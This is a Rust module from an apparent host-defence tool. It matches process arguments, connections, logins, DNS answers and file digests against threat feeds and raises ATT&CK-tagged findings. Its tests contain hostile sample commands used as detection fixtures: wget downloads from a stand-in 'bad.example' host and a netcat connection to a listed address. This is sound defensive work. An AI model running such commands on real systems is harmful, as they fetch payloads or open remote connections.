//! Events held against the feeds in force.

use std::net::IpAddr;
use std::sync::Arc;

use defender_model::event::{Event, EventKind};
use defender_model::file::Sha256;
use defender_model::finding::{Finding, Responses, RuleInfo};
use defender_model::network::{Direction, FlowChange};
use defender_model::process::Change;
use defender_model::severity::Severity;

use super::list::{Hit, List};
use super::mention::{self, Host};
use crate::describe;
use crate::ruleset::{Rule, RuleKind};
use crate::source::{DataSource, DataSources};

/// How something listed was met. Each has a rule of its own per feed, so that overrides and receivers can tell them apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Sighting {
    /// A connection, or a login, from or to a listed address or name.
    Contact,
    /// A listed name was looked up, or the answer was listed.
    LookUp,
    /// A program was given a listed host.
    Argument,
    /// A listed file was run or written.
    File,
}

impl Sighting {
    const ALL: [Self; 4] = [Self::Contact, Self::LookUp, Self::Argument, Self::File];

    /// Last part of the rule's id.
    const fn word(self) -> &'static str {
        match self {
            Self::Contact => "contact",
            Self::LookUp => "lookup",
            Self::Argument => "argument",
            Self::File => "file",
        }
    }

    const fn title(self) -> &'static str {
        match self {
            Self::Contact => "Contact with a listed address",
            Self::LookUp => "Look-up of a listed name",
            Self::Argument => "Program given a listed host",
            Self::File => "Listed file",
        }
    }

    /// ATT&CK tactic, and technique where one is certain.
    const fn attack(self) -> (&'static str, Option<&'static str>) {
        match self {
            Self::Contact => ("command-and-control", None),
            Self::LookUp => ("command-and-control", Some("T1071.004")),
            Self::Argument => ("command-and-control", Some("T1105")),
            Self::File => ("execution", None),
        }
    }

    /// Without which it is never met.
    const fn needs(self) -> DataSources {
        match self {
            Self::LookUp => DataSources::of(DataSource::Dns),
            Self::Argument => DataSources::of(DataSource::Process),
            // Logins or connections; programs or files.
            Self::Contact | Self::File => DataSources::NONE,
        }
    }
}

/// A feed in force: its list and what a hit means.
#[derive(Debug, Clone)]
pub struct Feed {
    name: String,
    rules: [Rule; 4],
    list: Arc<List>,
}

impl Feed {
    /// A feed of that name, read from `file`. Its rules are called `feed.NAME.contact`, `.lookup`, `.argument` and `.file`.
    #[must_use]
    pub fn new(name: &str, file: &str, level: Severity, response: Responses, list: List) -> Self {
        let rules = Sighting::ALL.map(|sighting| {
            let (tactic, technique) = sighting.attack();
            Rule {
                info: Arc::new(RuleInfo {
                    id: format!("feed.{name}.{}", sighting.word()),
                    title: format!("{} (feed {name})", sighting.title()),
                    description: format!("What was met is listed in the threat feed {name}."),
                    techniques: technique.map(str::to_owned).into_iter().collect(),
                    tactics: vec![tactic.to_owned()],
                    ..RuleInfo::default()
                }),
                level,
                response,
                kind: RuleKind::Event,
                logsource: "feed".to_owned(),
                needs: sighting.needs(),
                file: file.to_owned(),
                enabled: true,
                alerts: true,
                status: None,
            }
        });
        Self { name: name.to_owned(), rules, list: Arc::new(list) }
    }

    /// Its name.
    #[must_use]
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Its entries.
    #[must_use]
    pub fn list(&self) -> &List {
        &self.list
    }

    /// The rules its findings name.
    #[must_use]
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }
}

/// The feeds in force.
#[derive(Debug, Default)]
pub(crate) struct Feeds {
    feeds: Vec<Feed>,
    /// By name of the feed: findings so far, kept when a list is replaced.
    numbers: Vec<(String, [u64; 4])>,
}

impl Feeds {
    /// Puts a feed in force, in place of the one of that name.
    pub(crate) fn set(&mut self, feed: Feed) {
        match self.feeds.iter_mut().find(|old| old.name == feed.name) {
            Some(old) => *old = feed,
            None => self.feeds.push(feed),
        }
    }

    /// Takes a feed out of force; false when there is none of that name.
    pub(crate) fn remove(&mut self, name: &str) -> bool {
        let before = self.feeds.len();
        self.feeds.retain(|feed| feed.name != name);
        self.feeds.len() < before
    }

    pub(crate) fn iter(&self) -> impl Iterator<Item = &Feed> {
        self.feeds.iter()
    }

    /// A feed lists digests: it is worth computing those of files.
    pub(crate) fn wants_digests(&self) -> bool {
        self.feeds.iter().any(|feed| feed.list.has_digests())
    }

    /// Holds an event against every feed. Allocates nothing unless something is listed.
    pub(crate) fn inspect(&mut self, event: &Event, findings: &mut Vec<Finding>) {
        let Self { feeds, numbers } = self;
        for feed in feeds.iter().filter(|feed| !feed.list.is_empty()) {
            let first = findings.len();
            Met { feed, numbers, event, first, findings }.event();
        }
    }

    /// Holds the digest of a file that an event says was run against every feed.
    pub(crate) fn inspect_digest(&mut self, event: &Event, digest: Sha256, findings: &mut Vec<Finding>) {
        let Self { feeds, numbers } = self;
        for feed in &*feeds {
            if let Some(hit) = feed.list.digest(digest) {
                let first = findings.len();
                Met { feed, numbers, event, first, findings }.hit(Sighting::File, &hit, None);
            }
        }
    }
}

/// One event before one feed.
struct Met<'a> {
    feed: &'a Feed,
    numbers: &'a mut Vec<(String, [u64; 4])>,
    event: &'a Event,
    /// Findings from here on are of this feed and event.
    first: usize,
    findings: &'a mut Vec<Finding>,
}

impl Met<'_> {
    fn event(&mut self) {
        let event = self.event;
        match &event.kind {
            EventKind::Process(activity) if matches!(activity.change, Change::Exec { .. }) => {
                if !self.feed.list.has_hosts() {
                    return;
                }
                let arguments = activity.process.argv.iter().map(String::as_str);
                mention::hosts(arguments, |host| match host {
                    Host::Address(address) => self.address(Sighting::Argument, address),
                    Host::Name(name) => self.name(Sighting::Argument, name),
                });
            }
            EventKind::Authentication(login) => {
                if let Some(source) = login.source {
                    self.address(Sighting::Contact, source);
                }
            }
            // What goes on or ends has begun.
            EventKind::Network(flow) if matches!(flow.change, FlowChange::Opened | FlowChange::Failed) => {
                if flow.direction == Direction::Local {
                    return;
                }
                self.address(Sighting::Contact, flow.peer().address);
                if flow.direction == Direction::Unknown {
                    self.address(Sighting::Contact, flow.source.address);
                }
                if let Some(name) = &flow.destination_name {
                    self.name(Sighting::Contact, name);
                }
            }
            EventKind::File(file) => {
                if let Some(hit) = file.sha256.and_then(|digest| self.feed.list.digest(digest)) {
                    self.hit(Sighting::File, &hit, None);
                }
            }
            EventKind::Dns(dns) => {
                self.name(Sighting::LookUp, &dns.name);
                for answer in &dns.answers {
                    match answer.data.parse::<IpAddr>() {
                        Ok(address) => self.address(Sighting::LookUp, address),
                        Err(_) if answer.record_type != "TXT" => self.name(Sighting::LookUp, &answer.data),
                        Err(_) => {}
                    }
                }
            }
            _ => {}
        }
    }

    fn address(&mut self, sighting: Sighting, address: IpAddr) {
        if let Some(hit) = self.feed.list.address(address) {
            self.hit(sighting, &hit, Some(address));
        }
    }

    fn name(&mut self, sighting: Sighting, name: &str) {
        if let Some(hit) = self.feed.list.domain(name) {
            self.hit(sighting, &hit, None);
        }
    }

    fn hit(&mut self, sighting: Sighting, hit: &Hit, address: Option<IpAddr>) {
        let rule = &self.feed.rules[sighting as usize];
        // `sh -c` and its child aside, one event says the same thing once.
        if self.findings[self.first..].iter().any(|f| f.rule.id == rule.info.id && f.group[0].1 == hit.entry)
        {
            return;
        }
        let at = match self.numbers.iter().position(|(name, _)| *name == self.feed.name) {
            Some(at) => at,
            None => {
                self.numbers.push((self.feed.name.clone(), [0; 4]));
                self.numbers.len() - 1
            }
        };
        let number = &mut self.numbers[at].1[sighting as usize];
        *number += 1;
        self.findings.push(describe::listed(rule, *number, self.event, &self.feed.name, hit, address));
    }
}

#[cfg(test)]
mod tests {
    use defender_model::authentication::{Activity, Authentication, Outcome};
    use defender_model::dns::{Answer, Dns};
    use defender_model::finding::Response;
    use defender_model::network::{Endpoint, Flow, Protocol};
    use defender_model::process::{Process, ProcessActivity, Source};
    use defender_model::time::Timestamp;

    use super::super::list::Kind;
    use super::*;

    const LIST: &str = "192.0.2.0/24 botnet\nbad.example dropper\n*.pool.example\n\
        1111111111111111111111111111111111111111111111111111111111111111 miner\n";

    fn feeds() -> Feeds {
        let list = List::parse(LIST.as_bytes(), Kind::Any, 100).unwrap();
        let mut feeds = Feeds::default();
        feeds.set(Feed::new(
            "test",
            "test.txt",
            Severity::High,
            Responses::of(&[Response::BlockSource]),
            list,
        ));
        feeds
    }

    fn found(feeds: &mut Feeds, kind: EventKind) -> Vec<Finding> {
        let mut findings = Vec::new();
        feeds.inspect(&Event::new(Timestamp(1000), kind), &mut findings);
        findings
    }

    fn run(argv: &[&str]) -> EventKind {
        let argv = argv.iter().map(|arg| (*arg).to_owned()).collect();
        let process = Process { pid: 7, executable: "/bin/sh".into(), argv, ..Process::default() };
        let change = Change::Exec { truncated: false };
        ProcessActivity { process, change, source: Source::Audit, started: None }.into()
    }

    fn flow(change: FlowChange, direction: Direction, source: &str, destination: &str) -> EventKind {
        let end = |text: &str| Endpoint { address: text.parse().unwrap(), port: Some(80) };
        Flow {
            change,
            direction,
            protocol: Protocol::TCP,
            source: end(source),
            destination: end(destination),
            destination_name: None,
            forward: None,
            reply: None,
            started: None,
            ended: None,
            rule: None,
            process: None,
        }
        .into()
    }

    fn dns(name: &str, answers: &[(&str, &str)]) -> EventKind {
        Dns {
            name: name.into(),
            record_type: "A".into(),
            rcode: Some(0),
            answers: answers
                .iter()
                .map(|(kind, data)| Answer { record_type: (*kind).into(), data: (*data).into() })
                .collect(),
            server: None,
            process: None,
        }
        .into()
    }

    fn ids(findings: &[Finding]) -> Vec<&str> {
        findings.iter().map(|f| f.rule.id.as_str()).collect()
    }

    #[test]
    fn connections_and_logins() {
        let mut feeds = feeds();
        let out = found(&mut feeds, flow(FlowChange::Opened, Direction::Outbound, "10.0.0.1", "192.0.2.9"));
        assert_eq!(ids(&out), ["feed.test.contact"]);
        assert_eq!((out[0].source, out[0].destination), (None, Some("192.0.2.9".parse().unwrap())));
        assert!(out[0].message.contains("192.0.2.0/24 (botnet)"), "{}", out[0].message);
        assert_eq!((out[0].uid.as_str(), out[0].severity), ("feed.test.contact-1", Severity::High));
        let again = found(&mut feeds, flow(FlowChange::Failed, Direction::Inbound, "192.0.2.9", "10.0.0.1"));
        assert_eq!(again[0].source, Some("192.0.2.9".parse().unwrap()));
        assert_eq!(again[0].uid, "feed.test.contact-2");
        for quiet in [
            flow(FlowChange::Closed, Direction::Outbound, "10.0.0.1", "192.0.2.9"),
            flow(FlowChange::Opened, Direction::Outbound, "192.0.2.9", "10.0.0.1"),
            flow(FlowChange::Opened, Direction::Local, "192.0.2.9", "192.0.2.9"),
        ] {
            assert!(found(&mut feeds, quiet).is_empty());
        }
        let login = Authentication {
            activity: Activity::Logon,
            outcome: Outcome::Failure,
            user: Some("192.0.2.1".into()),
            user_known: None,
            service: "sshd".into(),
            method: None,
            source: Some("192.0.2.77".parse().unwrap()),
            source_port: None,
            tty: None,
            pid: None,
            count: 1,
            duration_ms: None,
            message: String::new(),
        };
        assert_eq!(found(&mut feeds, login.clone().into())[0].source, login.source);
        assert!(found(&mut feeds, Authentication { source: None, ..login }.into()).is_empty());
    }

    #[test]
    fn names_and_arguments() {
        let mut feeds = feeds();
        let out =
            found(&mut feeds, dns("www.bad.example", &[("CNAME", "x.pool.example."), ("A", "192.0.2.1")]));
        assert_eq!(out.len(), 3);
        assert!(out[1].message.contains("*.pool.example"), "{}", out[1].message);
        assert!(found(&mut feeds, dns("good.example", &[("TXT", "bad.example"), ("A", "198.51.100.1")]))
            .is_empty());
        let out =
            found(&mut feeds, run(&["sh", "-c", "wget http://bad.example/a; wget http://bad.example/b"]));
        assert_eq!(ids(&out), ["feed.test.argument"]);
        assert_eq!(out[0].group[0], ("entry".to_owned(), "bad.example".to_owned()));
        let out = found(&mut feeds, run(&["nc", "192.0.2.5", "23"]));
        assert_eq!((out[0].source, out[0].destination), (None, Some("192.0.2.5".parse().unwrap())));
        assert!(found(&mut feeds, run(&["cat", "/srv/bad.example/index"])).is_empty());
    }

    #[test]
    fn digests_and_replaced_lists() {
        let mut feeds = feeds();
        assert!(feeds.wants_digests());
        let (mut out, event) = (Vec::new(), Event::new(Timestamp(5), run(&["x"])));
        feeds.inspect_digest(&event, Sha256([0x11; 32]), &mut out);
        feeds.inspect_digest(&event, Sha256([0x12; 32]), &mut out);
        assert_eq!(ids(&out), ["feed.test.file"]);
        found(&mut feeds, run(&["nc", "192.0.2.5"]));
        let list = List::parse(b"192.0.2.5\n", Kind::Any, 100).unwrap();
        feeds.set(Feed::new("test", "test.txt", Severity::Low, Responses::NONE, list));
        assert!(!feeds.wants_digests());
        let out = found(&mut feeds, run(&["nc", "192.0.2.5"]));
        assert_eq!((out[0].uid.as_str(), out[0].severity), ("feed.test.argument-2", Severity::Low));
        assert!(feeds.remove("test") && !feeds.remove("test"));
        assert!(found(&mut feeds, run(&["nc", "192.0.2.5"])).is_empty());
    }
}
